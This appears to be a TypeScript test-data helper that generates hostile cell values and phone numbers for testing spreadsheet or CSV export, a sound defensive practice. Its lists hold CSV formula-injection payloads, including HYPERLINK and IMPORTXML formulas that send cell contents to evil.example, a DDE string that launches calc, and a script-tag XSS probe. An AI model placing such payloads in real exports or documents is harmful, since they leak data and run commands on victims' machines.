import type { Chance } from '../../../src/demo/chance.ts'

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '"=',
  "'=",
  '\u00a0+',
  '“@',
  '',
  '',
  '',
]
const bodies = [
  'HYPERLINK("https://evil.example?"&A1,"Click")',
  "cmd|' /C calc'!A0",
  'SUM(1+1)*cmd',
  'IMPORTXML(CONCAT("https://evil.example/",A2),"//a")',
  'דנה לוי',
  'נועה "ברק", בע״מ',
  'Анна; Слива',
  '<script>alert(1)</script>',
  '\u202eelpmaxe\u202c',
  'a\nb\r\nc',
  ',,;"',
  '1E5',
  '0012',
  '2026-01-02',
  'TRUE',
  '_x0041_',
  '𝔻𝕒𝕟𝕒 👩‍👧',
  '&amp;<b>',
  "O'Neil",
  '5',
]

/** A value that a spreadsheet might run, change or show as something else; never without a sign that can be seen. */
export function hostileValue(chance: Chance, number: number): string {
  return `${chance.pick(starts)}${chance.pick(bodies)}${chance.pick(['', ` ${number}`, '\t', '"'])}`
}

/** A phone number as people write them into forms, and as attackers do. */
export function hostilePhone(chance: Chance, number: number): string {
  return chance.pick([
    `+972 50-${1_000_000 + number}`,
    `-${number}`,
    `=1+${number}`,
    `@SUM(${number})`,
    `050-${1_000_000 + number}`,
    `\t+${number}`,
  ])
}
